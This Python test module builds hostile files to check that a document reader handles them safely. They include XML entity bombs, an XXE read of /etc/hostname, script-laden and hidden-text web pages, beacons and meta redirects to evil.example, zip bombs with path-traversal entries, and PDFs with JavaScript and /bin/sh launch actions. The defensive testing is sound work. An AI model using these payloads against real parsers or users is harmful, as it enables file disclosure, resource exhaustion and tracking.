"""Files of formats with a structure, which can be made to lie: XML, web pages, archives, PDF."""

from __future__ import annotations

from tests.hostile import files as made_of
from tests.hostile.outcomes import ABSOLUTE, CANARY, TEXT, Files, Left, Read

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_QUADRATIC = f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>'
_XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
_REMOTE = '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;]>'


def entities() -> Files:
    body = '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>{}</p></body></html>'
    laughs = f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]>'
    made: Files = {}
    for name, prolog, use in (
        ("laughs", laughs, "&l9;"),
        ("quadratic", _QUADRATIC, "&a;" * 50_000),
        ("xxe", _XXE, "&x;"),
        ("remote", _REMOTE, "x"),
    ):
        made[f"{name}.xhtml"] = (prolog + body.format(use), Left("xml_entity"))
        made[f"{name}.epub"] = (made_of.epub(prolog + body.format(use)), Left("xml_entity"))
        document = f"<?xml version='1.0'?>{prolog}<w>{use}</w>"
        made[f"{name}.docx"] = (
            made_of.repacked(made_of.word(TEXT), {"word/document.xml": document}),
            Left("xml_entity"),
        )
    made["doctype.html"] = (f'<!DOCTYPE html SYSTEM "http://127.0.0.1:9/x.dtd"><p>{TEXT}</p>', Read("Anna Krol"))
    return made


def pages() -> Files:
    active = (
        f"<p onclick='alert(1)'>{TEXT}</p><script>{CANARY}</script><svg onload=alert(1)><text>{CANARY}</text></svg>"
        f"<iframe srcdoc='{CANARY}'></iframe><meta http-equiv=refresh content='0;url=http://evil.example'>"
        f"<base href='http://evil.example/'><template>{CANARY}</template><object data=x>{CANARY}</object>"
    )
    hidden = (
        f"<p>{TEXT}</p><p style='display: none'>{CANARY}</p><p style='font-size:0px'>{CANARY}</p>"
        f"<p style='visibility:hidden'>{CANARY}</p><!-- {CANARY} --><p hidden>{CANARY}</p>"
        f"<p style='opacity:0'>{CANARY}</p>"
    )
    images = (
        f"![x](http://evil.example/{CANARY}) <img src='http://evil.example/{CANARY}'> [r]\n\n[r]: http://e.example/q"
    )
    return {
        "active.html": (active, Read("Anna Krol")),
        "hidden.html": (hidden, Read("Anna Krol")),
        "white.html": (f"<p>{TEXT}</p><p style='color:#FFF'>white words</p>", Read("white words", "hidden_text")),
        "clear.html": (f"<p>{TEXT}</p><p style='color: transparent'>clear</p>", Read("clear", "hidden_text")),
        "nested.html": ("<div>" * 1_000_000 + TEXT, Left("parser_limit")),
        "unclosed.html": (f"<p><b>{TEXT}" * 2_000, Read("Anna Krol")),
        "images.md": (f"{TEXT}\n\n{images}", Read("Anna Krol")),
        "links.md": (
            f"{TEXT} [a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x) [d](http://e.example/{CANARY})",
            Read("Anna Krol"),
        ),
        "brackets.md": ("[" * 50_000 + "\n\n" + TEXT, Read("Anna Krol", "plain text")),
        "stars.md": ("*a_" * 5_000 + "\n\n" + TEXT, Read("Anna Krol")),
        "ticks.md": ("".join("`" * n + "x" for n in range(1, 200)) + "\n\n" + TEXT, Read("Anna Krol")),
        "quotes.md": (">" * 50_000 + " x", Left("parser_limit")),
    }


def archives() -> Files:
    zeros = bytes(30_000_000)
    made: Files = {
        "bomb.docx": (made_of.repacked(made_of.word(TEXT), {"word/media/a.bin": zeros}), Left("zip_ratio")),
        "bomb.xlsx": (made_of.repacked(made_of.sheet(["a"]), {"xl/media/a.bin": zeros}), Left("zip_ratio")),
        "bomb.epub": (made_of.repacked(made_of.epub("<p>x</p>"), {"a.bin": zeros}), Left("zip_ratio")),
        "entries.docx": (made_of.many_entries(200_000), Left("zip_ratio")),
        "overlap.docx": (made_of.many_entries(300), Left("corrupt|type_mismatch|zip_ratio")),
        "zip64.docx": (made_of.zip64(made_of.word(TEXT)), Read("Anna Krol")),
        "climb.docx": (
            made_of.repacked(made_of.word(TEXT), {"../../climbed.txt": CANARY, ABSOLUTE: CANARY}),
            Read("Anna Krol"),
        ),
        "macro.docx": (made_of.repacked(made_of.word(TEXT), {"word/vbaProject.bin": CANARY}), Read("Anna Krol")),
        "nested.docx": (
            made_of.repacked(made_of.word(TEXT), {"word/embeddings/a.docx": made_of.word(CANARY)}),
            Read("Anna Krol"),
        ),
        "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), Left("encrypted")),
        "old.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), Left("encrypted")),
    }
    remote = (
        '<Relationship Id="rIdT" TargetMode="External" Target="http://127.0.0.1:9/t.dotm" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/><Relationship Id="rIdU" '
        'TargetMode="External" Target="file://///127.0.0.1/share/x.png" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/image"/></Relationships>'
    )
    rels = "word/_rels/document.xml.rels"
    plain = made_of.entry(made_of.word(TEXT), rels).replace("</Relationships>", remote)
    made["remote.docx"] = (made_of.repacked(made_of.word(TEXT), {rels: plain}), Read("Anna Krol"))
    locked = bytearray(made_of.word(TEXT))
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    made["locked.docx"] = (bytes(locked), Left("encrypted"))
    lying = bytearray(made_of.repacked(made_of.word(TEXT), {"word/document.xml": b"<a>" + b" " * 5_000_000 + b"</a>"}))
    at = lying.rindex(b"word/document.xml") - 46
    lying[at + 24 : at + 28] = (100).to_bytes(4, "little")
    made["lying.docx"] = (bytes(lying), Left("corrupt"))
    made["attachment.eml"] = (
        "From: a@example.org\nSubject: Bell\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n--B\n"
        f"Content-Type: text/plain\n\n{TEXT}\n--B\nContent-Type: text/plain\nContent-Disposition: attachment; "
        f"filename=x.txt\n\n{CANARY}\n--B--\n",
        Read("Anna Krol"),
    )
    return made


def pdfs() -> Files:
    whole = made_of.pdf(TEXT)
    catalog = b"<< /Type /Catalog /Pages 2 0 R >>"
    script = (
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >> "
        b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.txt) /Desc (%s) >>] >> >>" % CANARY.encode()
    )
    image = b"/XObject << /I << /Type /XObject /Subtype /Image /Width 2000000000 /Height 2000000000 >> >>"
    bomb = made_of.flate_bomb(2_000_000_000)
    stacked = b"/Filter [/FlateDecode /FlateDecode]"
    return {
        "password.pdf": (made_of.pdf(TEXT, password="secret"), Left("encrypted")),
        "owner.pdf": (made_of.pdf(TEXT, owner="secret"), Read("Anna Krol")),
        "cut.pdf": (whole[: len(whole) // 2], Left("corrupt|no_text")),
        "xref.pdf": (
            made_of.raw_pdf(catalog, b"<< /Type /Pages /Kids [] /Count 0 >>", xref=False),
            Left("corrupt|no_text"),
        ),
        "no-pages.pdf": (made_of.raw_pdf(catalog, b"<< /Type /Pages /Kids [] /Count 0 >>"), Left("corrupt|no_text")),
        "junk.pdf": (b"junk\n" * 20 + whole, Read("Anna Krol")),
        "bomb.pdf": (made_of.pdf_page(bomb, stacked), Left("parser_limit|no_text|corrupt|timeout")),
        "image.pdf": (made_of.pdf_page(made_of.pdf_words(TEXT), resources=image), Read("Anna Krol")),
        "cycle.pdf": (
            made_of.raw_pdf(
                catalog, b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"
            ),
            Left("corrupt|no_text|timeout"),
        ),
        "inline.pdf": (made_of.pdf_page(made_of.pdf_words(TEXT) + b" BI /W 9 /H 9 ID \xff\xff"), Read("Anna Krol")),
        "sizes.pdf": (
            made_of.raw_pdf(catalog, b"<< /Type /Pages /Kids [] /Count 0 >>", size=2**31 - 1),
            Left("corrupt|no_text"),
        ),
        "script.pdf": (made_of.pdf_page(made_of.pdf_words(TEXT), catalog=script), Read("Anna Krol")),
        "mode.pdf": (made_of.pdf(TEXT, hidden="unseen words", how="mode"), Read("unseen words", "hidden_text")),
        "white.pdf": (made_of.pdf(TEXT, hidden="unseen words", how="white"), Read("unseen words", "hidden_text")),
        "tiny.pdf": (made_of.pdf(TEXT, hidden="unseen words", how="tiny"), Read("unseen words", "hidden_text")),
        "outside.pdf": (made_of.pdf(TEXT, hidden="unseen words", how="outside"), Read("Anna Krol", "hidden_text")),
        "plain.pdf": (whole, Read("Anna Krol", without="hidden_text")),
        "scan.pdf": (made_of.pdf(pages=2), Left("no_text")),
        "long.pdf": (made_of.pdf(TEXT, pages=60), Read("Anna Krol", "only the first 50 of 60 pages")),
    }
